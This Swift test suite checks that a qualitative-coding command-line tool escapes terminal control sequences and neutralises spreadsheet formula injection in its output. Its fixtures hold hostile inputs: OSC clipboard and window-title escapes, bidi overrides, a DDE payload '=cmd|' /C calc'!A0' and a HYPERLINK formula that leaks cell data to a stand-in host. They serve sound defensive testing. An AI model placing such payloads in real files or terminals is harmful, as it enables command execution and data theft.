import Foundation
import Testing

/// Issue 8: nothing from a transcript, codebook, file name or command line reaches the terminal raw; CSV
/// exports are safe to open in a spreadsheet and still read back exactly; error messages stay short.
@Suite("hostile text in output")
struct HostileTextOutputTests {
    // MARK: Hostile inputs

    /// OSC 52 (clipboard write), OSC 0 (window title), ESC[2J (clear screen), C1 CSI (U+009B), BEL, a bidi
    /// override: in the transcript's text and in a speaker name.
    static let evilChat = "# speakers: A\u{1B}[2J, B\n"
        + "A\u{1B}[2J: hi \u{1B}]52;c;SEFDS0VE\u{7} x\n"
        + "B: y \u{9B}31m rood \u{202E}driew\u{202C} \u{1B}]0;pwned\u{7}\n"
        + "B: nog een\n"

    /// A codebook whose code names hold the same (names may not hold '>', tabs or line breaks; the rest is allowed).
    static let evilCodebook = """
        code\toperationalisation\texample\trules\tcolor
        Aard\u{1B}]0;title\u{7}\t=HYPERLINK("https://x/?"&A1)\t\t\t
        Aard\u{1B}]0;title\u{7} > Sub\u{9B}2J|`x`\t\t\t\t
        Aard\u{1B}]0;title\u{7} > -2+3\t\t\t\t
        =cmd|' /C calc'!A0\t\t\t\t

        """

    static let evilMemo = "=HYPERLINK(\"https://x/?\"&A2,\"klik\")\u{1B}]52;c;QUFB\u{7}"
    static let evilRelation = "@rel\u{9B}2J"

    /// Scalars that act on a terminal or reorder text, as the issue names them. Written out here, not taken
    /// from `TerminalText`, so this test does not trust the code it checks. Line feed is allowed everywhere;
    /// tab in layout; CR only when `allowCR` (a pty turns each line feed into CR LF).
    static func rawControls(_ data: Data, allowCR: Bool = false) -> [String] {
        let text = String(decoding: data, as: UTF8.self)
        return text.unicodeScalars.compactMap { s -> String? in
            let v = s.value
            let bad = (v < 0x20 && s != "\n" && s != "\t" && !(allowCR && s == "\r")) || (0x7F...0x9F).contains(v)
                || [0x061C, 0x200E, 0x200F].contains(v) || (0x202A...0x202E).contains(v) || (0x2066...0x2069).contains(v)
            return bad ? "U+" + String(v, radix: 16, uppercase: true) : nil
        }
    }

    func expectClean(_ result: RunResult, sourceLocation: SourceLocation = #_sourceLocation) {
        #expect(Self.rawControls(result.stdoutData).isEmpty, "stdout: \(Self.rawControls(result.stdoutData))\n\(result)", sourceLocation: sourceLocation)
        #expect(Self.rawControls(result.stderrData).isEmpty, "stderr: \(Self.rawControls(result.stderrData))\n\(result)", sourceLocation: sourceLocation)
        // The raw bytes the issue lists, checked once more as bytes: ESC, BEL, C1 CSI as UTF-8.
        for data in [result.stdoutData, result.stderrData] {
            #expect(!data.contains(0x1B) && !data.contains(0x07), sourceLocation: sourceLocation)
            #expect(data.range(of: Data([0xC2, 0x9B])) == nil, sourceLocation: sourceLocation)
        }
    }

    /// A project made from the hostile codebook, the hostile chat imported, and coder `eve`'s codings imported
    /// from a CSV: two quotes with the hostile memo and relation, codes by path.
    func makeHostileProject(in folder: TemporaryFolder) throws {
        let codebook = try folder.write("codebook.tsv", Self.evilCodebook)
        let created = try gloss("init", folder.project.path, "--codebook", codebook.path)
        try #require(created.status == 0, "\(created)")
        let chat = try folder.write("evil.txt", Self.evilChat)
        let imported = try gloss("import", folder.project.path, chat.path)
        try #require(imported.status == 0, "\(imported)")
        let csv = try folder.write("eve.csv", Fixtures.csvHeader
            + "evil,1,,1,,Aard\u{1B}]0;title\u{7} > Sub\u{9B}2J|`x`,\"\(Self.evilMemo.replacingOccurrences(of: "\"", with: "\"\""))\",\(Self.evilRelation)\n"
            + "evil,2,,2,,=cmd|' /C calc'!A0,,\n")
        let coded = try gloss("codings", "import", folder.project.path, "--coder", "eve", csv.path)
        try #require(coded.status == 0, "\(coded)")
    }

    // MARK: Human-readable output

    @Test("the issue's reproduction: quotes, codebook, report (text, md) and status show every control escaped")
    func humanOutputEscaped() throws {
        try withTemporaryFolder { folder in
            try makeHostileProject(in: folder)
            let project = folder.project.path
            let runs: [[String]] = [
                ["quotes", project, "--coder", "eve", "--code", "Aard\u{1B}]0;title\u{7}"],
                ["quotes", project, "--coder", "eve", "--code", "Aard\u{1B}]0;title\u{7}", "--format", "md"],
                ["codebook", project],
                ["codebook", "log", project],
                ["report", project, "--coder", "eve", "--category", "Aard\u{1B}]0;title\u{7}"],
                ["report", project, "--coder", "eve", "--category", "Aard\u{1B}]0;title\u{7}", "--format", "md"],
                ["status", project],
                ["validate", project],
            ]
            for arguments in runs {
                let result = try gloss(arguments)
                #expect(result.status == 0, "\(result)")
                expectClean(result)
            }
            // What the escaping shows: the control by its code point, the rest of the text as it is.
            let quotes = try gloss("quotes", project, "--coder", "eve", "--code", "Aard\u{1B}]0;title\u{7}")
            #expect(quotes.stdout.contains("hi \\u{1B}]52;c;SEFDS0VE\\u{7} x"), "\(quotes)")
            let second = try gloss("quotes", project, "--coder", "eve", "--code", "=cmd|' /C calc'!A0")
            #expect(second.stdout.contains("y \\u{9B}31m rood \\u{202E}driew\\u{202C} \\u{1B}]0;pwned\\u{7}"), "\(second)")
            #expect(quotes.stdout.contains("memo: =HYPERLINK(\"https://x/?\"&A2,\"klik\")\\u{1B}]52;c;QUFB\\u{7}"), "\(quotes)")
            let tree = try gloss("codebook", project)
            #expect(tree.stdout.contains("Aard\\u{1B}]0;title\\u{7}\n"), "\(tree)")
        }
    }

    @Test("Markdown tables: a | or a backtick in a code name cannot break the table")
    func markdownCells() throws {
        try withTemporaryFolder { folder in
            try makeHostileProject(in: folder)
            let report = try gloss("report", folder.project.path, "--coder", "eve", "--category", "Aard\u{1B}]0;title\u{7}", "--format", "md")
            #expect(report.status == 0, "\(report)")
            let row = try #require(report.stdout.split(separator: "\n").first { $0.hasPrefix("| Sub") })
            #expect(row == "| Sub\\u{9B}2J\\|\\`x\\` | 1 | 100.00 |", "\(report)")
        }
    }

    @Test("error messages escape hostile file names, coder names, code names and option values")
    func errorsEscaped() throws {
        try withTemporaryFolder { folder in
            try makeHostileProject(in: folder)
            let project = folder.project.path
            let badName = try folder.write("\u{1B}]0;t\u{7}chat.txt", "A: hoi\n")
            let badCSV = try folder.write("bad\u{1B}[2J.csv", Fixtures.csvHeader + "evil,1,,1,,Onbekend\u{1B}]52;c;QUFB\u{7},,\n")
            let runs: [[String]] = [
                ["import", project, badName.path],
                ["quotes", project, "--coder", "\u{1B}]0;x\u{7}", "--code", "Aard"],
                ["quotes", project, "--coder", "eve", "--code", "\u{9B}2J\u{202E}"],
                ["report", project, "--coder", "eve", "--format", "\u{1B}[2J"],
                ["codings", "import", project, "--coder", "eve", "--merge", badCSV.path],
                ["import", project + "\u{1B}]0;nope\u{7}", badName.path],
            ]
            for arguments in runs {
                let result = try gloss(arguments)
                #expect(result.status != 0, "\(result)")
                #expect(!result.stderr.isEmpty, "\(result)")
                expectClean(result)
            }
            let coder = try gloss("quotes", project, "--coder", "\u{1B}]0;x\u{7}", "--code", "Aard")
            #expect(coder.stderr == "gloss: \"\\u{1B}]0;x\\u{7}\" is not a valid coder name: use letters, digits, '-', '_' or '.'\n")
        }
    }

    @Test("import warns, naming the file and the line, when a transcript holds control characters; the chat is imported")
    func importWarns() throws {
        try withTemporaryFolder { folder in
            try Fixtures.makeProject(in: folder)
            let chat = try folder.write("evil.txt", Self.evilChat)
            let result = try gloss("import", folder.project.path, chat.path)
            #expect(result.status == 0, "\(result)")
            #expect(result.stdout.hasPrefix("evil: imported, 3 messages"), "\(result)")
            #expect(result.stderr == "gloss: warning: \(chat.path): line 1 (and 2 more line(s)): contains control characters (first: \\u{1B}) "
                    + "that a terminal could act on; Gloss shows them escaped, but check where this transcript came from\n", "\(result)")
            expectClean(result)
            // A clean transcript: no warning.
            let clean = try gloss("import", folder.project.path, folder.source("chat-01.txt").path)
            #expect(clean.stderr == "", "\(clean)")
        }
    }

    // MARK: JSON

    @Test("JSON output stays valid and escapes controls as JSON does: the same strings for a JSON reader")
    func jsonOutput() throws {
        try withTemporaryFolder { folder in
            try makeHostileProject(in: folder)
            let codebook = try gloss("codebook", folder.project.path, "--format", "json")
            #expect(codebook.status == 0, "\(codebook)")
            expectClean(codebook)
            let tree = try #require(try JSONSerialization.jsonObject(with: codebook.stdoutData) as? [[String: Any]])
            #expect(tree.map { ($0["name"] as? String).map { Array($0.unicodeScalars) } } == [
                Array("Aard\u{1B}]0;title\u{7}".unicodeScalars), Array("=cmd|' /C calc'!A0".unicodeScalars),
            ])
            let child = try #require((tree[0]["children"] as? [[String: Any]])?.first)
            #expect((child["name"] as? String).map { Array($0.unicodeScalars) } == Array("Sub\u{9B}2J|`x`".unicodeScalars))
            #expect(codebook.stdout.contains("\\u009b") && codebook.stdout.contains("\\u001b"))

            let report = try gloss("report", folder.project.path, "--coder", "eve", "--category", "Aard\u{1B}]0;title\u{7}", "--format", "json")
            #expect(report.status == 0, "\(report)")
            expectClean(report)
            let figure = try #require(try JSONSerialization.jsonObject(with: report.stdoutData) as? [String: Any])
            #expect((figure["category"] as? String).map { Array($0.unicodeScalars) } == Array("Aard\u{1B}]0;title\u{7}".unicodeScalars))
        }
    }

    // MARK: CSV and spreadsheets

    @Test("the codings CSV: memos and relations starting with = + - @ tab CR get a leading ', and import gives them back exactly")
    func codingsCSVSpreadsheetSafe() throws {
        try withTemporaryFolder { folder in
            try Fixtures.makeProject(in: folder)
            let project = folder.project.path
            let memos = ["=HYPERLINK(\"https://x/?\"&A2,\"klik\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "==2", "'=al een quote", "-5", "gewoon"]
            var csv = Fixtures.csvHeader
            for (index, memo) in memos.enumerated() {
                // Message 1 of chat-01 has 29 code points: one quote per memo, each its own span.
                csv += CSVField.line(["chat-01", "1", "\(index)", "1", "\(index + 1)", "Toon", memo, index == 0 ? "=rel" : ""])
            }
            let source = try folder.write("in.csv", csv)
            let imported = try gloss("codings", "import", project, "--coder", "ann", "--raw-csv", source.path)
            #expect(imported.status == 0, "\(imported)")
            let stored = try sessionCodings(folder.project, "ann").compactMap { $0["memo"] as? String }
            #expect(Set(stored.map { Array($0.unicodeScalars) }) == Set(memos.map { Array($0.unicodeScalars) }))

            let exported = try gloss("codings", "export", project, "--coder", "ann")
            #expect(exported.status == 0, "\(exported)")
            let lines = exported.stdout
            for memo in memos.prefix(6) {
                #expect(lines.contains(CSVField.quoted("'" + memo)), "\(memo.debugDescription) in \(lines)")
            }
            #expect(lines.contains(",''=al een quote,"), "\(lines)")
            #expect(lines.contains(",-5,"), "a plain number stays a number: \(lines)")
            #expect(lines.contains(",'=rel,H\n"), "\(lines)")  // the quote's text, message 1 from 0 to 1, follows
            // No cell of the export begins with a formula character.
            #expect(!matches(lines, "(^|\n|,)\"?[=+@\\t\\r]") && !matches(lines, "(^|\n|,)\"?-[^0-9]"), "\(lines)")

            // The round trip is exact: import the export (replace), export again, same bytes, same memos.
            let file = try folder.write("out.csv", exported.stdoutData)
            let again = try gloss("codings", "import", project, "--coder", "ann", "--replace", file.path)
            #expect(again.status == 0, "\(again)")
            let second = try gloss("codings", "export", project, "--coder", "ann")
            #expect(second.stdoutData == exported.stdoutData)
            let storedAgain = try sessionCodings(folder.project, "ann").compactMap { $0["memo"] as? String }
            #expect(storedAgain.map { Array($0.unicodeScalars) }.sorted { "\($0)" < "\($1)" }
                    == stored.map { Array($0.unicodeScalars) }.sorted { "\($0)" < "\($1)" })

            // --raw-csv: cells exactly as they are.
            let raw = try gloss("codings", "export", project, "--coder", "ann", "--raw-csv")
            #expect(raw.stdout.contains(",=rel,H\n") && raw.stdout.contains(",+1+1,"), "\(raw)")
        }
    }

    @Test("report CSV, the matrix and quotes CSV: formula-like code names, labels and texts get the leading '")
    func reportCSVSpreadsheetSafe() throws {
        try withTemporaryFolder { folder in
            try makeHostileProject(in: folder)
            let project = folder.project.path
            let matrix = try gloss("report", project, "--coder", "eve", "--matrix", "--all-levels")
            #expect(matrix.status == 0, "\(matrix)")
            #expect(matrix.stdout.hasPrefix("chat,"), "\(matrix)")
            #expect(matrix.stdout.contains(",'=cmd|' /C calc'!A0\n"), "\(matrix)")
            #expect(matches(matrix.stdout, "\nevil(,[01]){4}\n$"), "the 0/1 cells stay numbers: \(matrix)")
            let figure = try gloss("report", project, "--coder", "eve", "--category", "Aard\u{1B}]0;title\u{7}", "--format", "csv")
            #expect(figure.status == 0, "\(figure)")
            #expect(figure.stdout.contains(",1,100.00\n"), "numbers stay numbers: \(figure)")
            #expect(figure.stdout.contains(",'-2+3,0,0.00\n"), "a formula-like label gets the ': \(figure)")

            let quotes = try gloss("quotes", project, "--coder", "eve", "--code", "=cmd|' /C calc'!A0", "--format", "csv")
            #expect(quotes.status == 0, "\(quotes)")
            #expect(quotes.stdout.contains(",'=cmd|' /C calc'!A0,"), "\(quotes)")
            let raw = try gloss("quotes", project, "--coder", "eve", "--code", "=cmd|' /C calc'!A0", "--format", "csv", "--raw-csv")
            #expect(raw.stdout.contains(",=cmd|' /C calc'!A0,"), "\(raw)")
        }
    }

    @Test("CSV and TSV written to a terminal are shown escaped; written to a file they are exact data")
    func tablesOnATerminal() throws {
        try withTemporaryFolder { folder in
            try makeHostileProject(in: folder)
            let project = folder.project.path
            // To a file: the export is data, read back exactly (the ESC is in the memo).
            let toFile = try gloss("report", project, "--coder", "eve", "--matrix", "--all-levels")
            #expect(toFile.stdoutData.contains(0x1B))
            // To a terminal (script(1) gives gloss a pty): the matrix header and the TSV are escaped.
            for command in ["report '\(project)' --coder eve --matrix --all-levels", "codebook '\(project)' --format tsv",
                            "codings export '\(project)' --coder eve"] {
                let result = try runProcess(URL(fileURLWithPath: "/usr/bin/script"),
                                            ["-qec", "'\(GlossBinary.url.path)' \(command)", "/dev/null"])
                #expect(result.status == 0, "\(result)")
                #expect(Self.rawControls(result.stdoutData, allowCR: true).isEmpty, "\(Self.rawControls(result.stdoutData, allowCR: true))\n\(result)")
                #expect(result.stdout.contains("\\u{1B}"), "\(result)")
            }
        }
    }

    // MARK: Bounded messages

    @Test("a 1 MB bad CSV cell gives an error message of a few hundred bytes, not the cell")
    func hugeCellShortError() throws {
        try withTemporaryFolder { folder in
            try Fixtures.makeProject(in: folder)
            let huge = String(repeating: "x", count: 1_000_000)
            for (name, text) in [("code.csv", Fixtures.csvHeader + "chat-01,1,,1,,\(huge),,\n"),
                                 ("chat.csv", Fixtures.csvHeader + "\(huge),1,,1,,Toon,,\n"),
                                 ("column.csv", "chat,\(huge)\n")] {
                let csv = try folder.write(name, text)
                let result = try gloss("codings", "import", folder.project.path, "--coder", "ann", csv.path)
                #expect(result.status == 1, "\(result.stderr.prefix(500))")
                let message = result.stderr.replacingOccurrences(of: csv.path, with: "")
                #expect(message.utf8.count < 300, "\(name): \(message.utf8.count) bytes: \(message.prefix(500))")
                #expect(message.contains("(999900 more characters)"), "\(name): \(message.prefix(500))")
            }
            // A session file (it may arrive by git) with a 1 MB chat status and a 1 MB chat name as a key.
            let session = "{\"chats\": {\"chat-01\": \"\(huge)\"}, \"codebook_revision\": 1, \"coder\": \"zed\", \"codings\": [], \"schema\": 1}"
            let named = "{\"chats\": {\"\(huge)\": 7}, \"codebook_revision\": 1, \"coder\": \"zed\", \"codings\": [], \"schema\": 1}"
            for text in [session, named] {
                try Data(text.utf8).write(to: sessionFile(folder.project, "zed"))
                let status = try gloss("status", folder.project.path)
                #expect(status.status == 1, "\(status.stderr.prefix(500))")
                let message = status.stderr.replacingOccurrences(of: sessionFile(folder.project, "zed").path, with: "")
                #expect(message.utf8.count < 400, "\(message.utf8.count) bytes: \(message.prefix(500))")
            }
            try FileManager.default.removeItem(at: sessionFile(folder.project, "zed"))
            // The same for a code given on the command line.
            let quotes = try gloss("quotes", folder.project.path, "--coder", "ann", "--code", String(repeating: "y", count: 100_000))
            #expect(quotes.status == 1)
            #expect(quotes.stderr.utf8.count < 300, "\(quotes.stderr.prefix(500))")
        }
    }
}

/// CSV text for the tests, written out here rather than with GlossCore's writer.
enum CSVField {
    static func quoted(_ field: String) -> String {
        field.unicodeScalars.contains { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" }
            ? "\"" + field.replacingOccurrences(of: "\"", with: "\"\"") + "\"" : field
    }

    static func line(_ fields: [String]) -> String { fields.map(quoted).joined(separator: ",") + "\n" }
}
